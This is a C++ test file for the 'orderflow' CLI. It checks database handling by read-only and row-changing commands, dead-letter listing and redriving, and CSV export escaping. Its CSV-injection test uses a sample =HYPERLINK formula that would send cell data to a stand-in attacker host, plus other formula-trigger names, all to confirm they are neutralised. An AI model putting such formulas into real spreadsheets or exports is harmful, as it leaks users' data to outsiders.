// CLI commands and the database: read-only commands (export, dlq list)
// never create, migrate or write a database; commands that change existing
// rows need an existing database; the CSV export is safe to open in a
// spreadsheet. Runs on SQLite and, in the PostgreSQL tier, on PostgreSQL.

#include <gtest/gtest.h>

#include <filesystem>
#include <map>
#include <string>
#include <vector>

#include "integration/cli_helpers.hpp"
#include "support/csv_record.hpp"
#include "support/pg_test_db.hpp"
#include "support/server_process.hpp"
#include "support/temp_dir.hpp"

namespace orderflow::testing {
namespace {

using cli::Binary;
using cli::Contains;
using cli::NonEmptyLines;
using cli::RunForStderr;
using cli::RunForStdout;

constexpr const char* kReadOnlyCommands[] = {"export", "export --format jsonl --store X",
                                             "dlq list", "dlq list --store X"};

// `orderflow --db sqlite:typo.db export` used to create typo.db and exit 0.
TEST(CliDatabase, ReadOnlyCommandsOnAMissingSqliteFileFailAndCreateNothing) {
  TempDir dir;
  for (const std::string& path : {dir.File("typo.db"), dir.File("no/such/dir/typo.db")}) {
    for (const char* command : kReadOnlyCommands) {
      for (const std::string& args : {" --db sqlite:" + path + " " + command,
                                      " " + std::string(command) + " --db sqlite:" + path}) {
        auto [code, err] = RunForStderr(Binary() + args);
        EXPECT_EQ(code, 2) << args;
        std::vector<std::string> lines = NonEmptyLines(err);
        ASSERT_EQ(lines.size(), 1u) << args << ":\n" << err;
        EXPECT_TRUE(Contains(lines[0], "no database at " + path)) << lines[0];
      }
    }
    EXPECT_FALSE(std::filesystem::exists(path)) << path;
  }
  EXPECT_FALSE(std::filesystem::exists(dir.File("no"))) << "a directory was created";
  EXPECT_TRUE(std::filesystem::is_empty(dir.path()));
}

// Commands that change rows already there refuse a missing file too,
// instead of migrating a new, empty database and then failing.
TEST(CliDatabase, CommandsOnExistingRowsNeedAnExistingDatabase) {
  TempDir dir;
  const std::string db = " --db sqlite:" + dir.File("typo.db");
  for (const char* command :
       {"stores rotate-key X", "stores set-rate-limit X 5", "dlq redrive --store X 1 alerts"}) {
    auto [code, err] = RunForStderr(Binary() + " " + command + db);
    EXPECT_EQ(code, 2) << command;
    ASSERT_EQ(NonEmptyLines(err).size(), 1u) << command << ":\n" << err;
    EXPECT_TRUE(Contains(err, "no database at")) << err;
  }
  EXPECT_TRUE(std::filesystem::is_empty(dir.path()));
}

// A --db value for this test's own fresh database on the suite's back end,
// and a way to query it.
struct FreshDatabase {
  TempDir dir;
  std::string url;  // --db value
  bool postgres = ServerProcess::OnPostgres();

  FreshDatabase() { url = postgres ? PgSchemaUrl(dir.path()) : "sqlite:" + dir.File("fresh.db"); }
  std::int64_t QueryInt(const std::string& sql) const {
    if (postgres) return PgQueryUrlInt(url, sql);
    auto [code, out] = RunCommand("sqlite3 " + dir.File("fresh.db") + " \"" + sql + "\"");
    EXPECT_EQ(code, 0) << out;
    return out.empty() ? -1 : std::stoll(out);
  }
  std::int64_t TableCount() const {
    return QueryInt(postgres ? "SELECT COUNT(*) FROM information_schema.tables WHERE "
                               "table_schema = current_schema()"
                             : "SELECT COUNT(*) FROM sqlite_master WHERE type = 'table'");
  }
  std::string Db() const { return " --db '" + url + "'"; }
};

// An empty database (an empty SQLite file, an empty PostgreSQL schema) is
// not an orderflow database: read-only commands say so and create nothing.
TEST(CliDatabase, ReadOnlyCommandsDoNotCreateTheSchema) {
  FreshDatabase db;
  if (db.url.empty()) GTEST_SKIP() << "no PostgreSQL test server";
  if (!db.postgres) {
    auto [code, out] = RunCommand("touch " + db.dir.File("fresh.db"));
    ASSERT_EQ(code, 0) << out;
  }
  for (const char* command : kReadOnlyCommands) {
    auto [code, err] = RunForStderr(Binary() + db.Db() + " " + command);
    EXPECT_EQ(code, 2) << command;
    std::vector<std::string> lines = NonEmptyLines(err);
    ASSERT_EQ(lines.size(), 1u) << command << ":\n" << err;
    EXPECT_TRUE(Contains(lines[0], "no orderflow schema")) << lines[0];
    EXPECT_TRUE(Contains(lines[0], "orderflow migrate")) << lines[0];
  }
  EXPECT_EQ(db.TableCount(), 0);
  if (!db.postgres) {
    EXPECT_EQ(std::filesystem::file_size(db.dir.File("fresh.db")), 0u) << "the file was written";
  }
}

// A schema older than the binary is not migrated behind the operator's
// back by a read-only command: it says so and leaves it as it is.
TEST(CliDatabase, ReadOnlyCommandsRefuseAnOlderSchemaAndLeaveIt) {
  FreshDatabase db;
  if (db.url.empty()) GTEST_SKIP() << "no PostgreSQL test server";
  auto [migrated, out] = RunCommand(Binary() + " migrate" + db.Db());
  ASSERT_EQ(migrated, 0) << out;
  const std::int64_t latest = db.QueryInt("SELECT MAX(version) FROM schema_migrations");
  ASSERT_GE(latest, 1);
  db.QueryInt(db.postgres ? "WITH d AS (DELETE FROM schema_migrations WHERE version = "
                            "(SELECT MAX(version) FROM schema_migrations) RETURNING 1) "
                            "SELECT COUNT(*) FROM d"
                          : "DELETE FROM schema_migrations WHERE version = (SELECT "
                            "MAX(version) FROM schema_migrations); SELECT changes()");
  // Versions need not be contiguous (a number may be taken by a migration
  // of another branch): the older schema is whatever version remains.
  const std::int64_t previous = db.QueryInt("SELECT MAX(version) FROM schema_migrations");
  ASSERT_LT(previous, latest);
  const std::string older = std::to_string(previous);
  for (const char* command : kReadOnlyCommands) {
    auto [code, err] = RunForStderr(Binary() + db.Db() + " " + command);
    EXPECT_EQ(code, 2) << command;
    std::vector<std::string> lines = NonEmptyLines(err);
    ASSERT_EQ(lines.size(), 1u) << command << ":\n" << err;
    EXPECT_TRUE(Contains(lines[0], "schema version " + older + ", older than this orderflow (" +
                                       std::to_string(latest) + ")"))
        << lines[0];
    EXPECT_TRUE(Contains(lines[0], "orderflow migrate")) << lines[0];
  }
  EXPECT_EQ(db.QueryInt("SELECT MAX(version) FROM schema_migrations"), previous)
      << "a read-only command migrated the database";
}

// Read-only means no row written either: export and dlq list on a seeded
// database leave every table as it was, and answer from it.
TEST(CliDatabase, ReadOnlyCommandsReadACurrentDatabase) {
  FreshDatabase db;
  if (db.url.empty()) GTEST_SKIP() << "no PostgreSQL test server";
  auto [seeded, out] = RunCommand(Binary() + " seed --orders 5 --store Z" + db.Db());
  ASSERT_EQ(seeded, 0) << out;
  auto [code, csv] = RunForStdout(Binary() + db.Db() + " export --store Z");
  EXPECT_EQ(code, 0);
  EXPECT_EQ(NonEmptyLines(csv).size(), 6u) << csv;
  auto [list_code, list] = RunForStdout(Binary() + db.Db() + " dlq list");
  EXPECT_EQ(list_code, 0);
  EXPECT_TRUE(Contains(list, "0 dead letter(s)")) << list;
}

// A dead letter made by hand in a migrated database, then listed and
// redriven through the CLI.
TEST(CliDatabase, DeadLettersCanBeListedAndRedriven) {
  TempDir dir;
  const std::string db = dir.File("d.db");
  auto [seed_code, seed_out] = RunCommand(Binary() + " seed --db sqlite:" + db);
  ASSERT_EQ(seed_code, 0) << seed_out;
  auto [ins_code, ins_out] = RunCommand(
      "sqlite3 " + db +
      " \"INSERT INTO events (id, store_id, order_id, topic, payload, created_at, due_at) VALUES "
      "(77, 'X', '', 'order.created', '{}', 1, 1); INSERT INTO deliveries (event_id, step, state, "
      "attempts, next_at, last_error, updated_at) VALUES (77, 'alerts', 2, 8, 1, 'internal: boom', "
      "2);\"");
  ASSERT_EQ(ins_code, 0) << ins_out;

  auto [list_code, list_out] = RunCommand(Binary() + " dlq list --db sqlite:" + db);
  EXPECT_EQ(list_code, 0) << list_out;
  EXPECT_TRUE(Contains(list_out, "internal: boom")) << list_out;
  EXPECT_TRUE(Contains(list_out, "1 dead letter(s)")) << list_out;

  auto [wrong_code, wrong_out] =
      RunCommand(Binary() + " dlq redrive --store Y 77 alerts --db sqlite:" + db);
  EXPECT_NE(wrong_code, 0) << "another store's dead letter must not be redriven: " << wrong_out;

  auto [redrive_code, redrive_out] =
      RunCommand(Binary() + " dlq redrive --store X 77 alerts --db sqlite:" + db);
  EXPECT_EQ(redrive_code, 0) << redrive_out;
  auto [state_code, state] =
      RunCommand("sqlite3 " + db + " 'SELECT state, attempts FROM deliveries WHERE event_id = 77'");
  EXPECT_EQ(state, "0|0\n");
  auto [again_code, again_out] = RunCommand(Binary() + " dlq list --db sqlite:" + db);
  EXPECT_TRUE(Contains(again_out, "0 dead letter(s)")) << again_out;
}

// OWASP CSV injection: a customer named =HYPERLINK(...) must reach the
// spreadsheet as text. Amounts stay plain numbers.
TEST(CliDatabase, CsvExportEscapesFormulasInTextOnly) {
  ServerProcess server;
  StoreApi api(server.port(), server.admin_token(), "X");
  const std::map<std::string, std::string> names = {
      {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "hyperlink"},
      {"+1 555 0100", "plus"},
      {"-2+3", "minus"},
      {"@SUM(A1:A9)", "at"},
      {"Ada = Lovelace", "plain"},
  };
  std::map<std::string, std::string> kind_of_order;
  for (const auto& [name, kind] : names) {
    HttpResult res = api.PostOrder(name, "Motia Smartwatch V2");
    ASSERT_EQ(res.status, 201) << res.body;
    kind_of_order[Str(ParseJson(res.body), "orderId")] = kind;
  }
  TempDir dir;
  auto [code, out] = RunCommand(Binary() + " export --store X --output " + dir.File("o.csv") +
                                " --db '" + server.db_arg() + "'");
  ASSERT_EQ(code, 0) << out;
  const std::string csv = cli::ReadText(dir.File("o.csv"));
  EXPECT_TRUE(Contains(csv, "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""))
      << csv;

  std::size_t pos = 0;
  std::vector<std::string> header = SplitCsvRecord(csv, pos);
  std::map<std::string, std::size_t> col;
  for (std::size_t i = 0; i < header.size(); ++i) col[header[i]] = i;
  int rows = 0;
  while (pos < csv.size()) {
    std::vector<std::string> f = SplitCsvRecord(csv, pos);
    ASSERT_EQ(f.size(), header.size());
    const std::string& kind = kind_of_order[f[col["orderId"]]];
    const std::string& name = f[col["customerName"]];
    ++rows;
    if (kind == "plain") {
      EXPECT_EQ(name, "Ada = Lovelace");
    } else {
      ASSERT_FALSE(name.empty());
      EXPECT_EQ(name.front(), '\'') << kind << ": " << name;
      EXPECT_TRUE(names.count(name.substr(1)) == 1) << name;
    }
    for (const char* number : {"totalAmount", "totalCents"}) {
      const std::string& v = f[col[number]];
      ASSERT_FALSE(v.empty());
      EXPECT_TRUE(std::isdigit(static_cast<unsigned char>(v.front()))) << number << ": " << v;
    }
  }
  EXPECT_EQ(rows, static_cast<int>(names.size()));
  // No line of the file (outside quotes it is one record a line) starts a
  // cell with a formula trigger.
  for (const std::string trigger : {",=", ",+", ",-", ",@", ",\"=", ",\"+", ",\"-", ",\"@"}) {
    EXPECT_FALSE(Contains(csv, trigger)) << trigger << " in:\n" << csv;
  }
}

}  // namespace
}  // namespace orderflow::testing
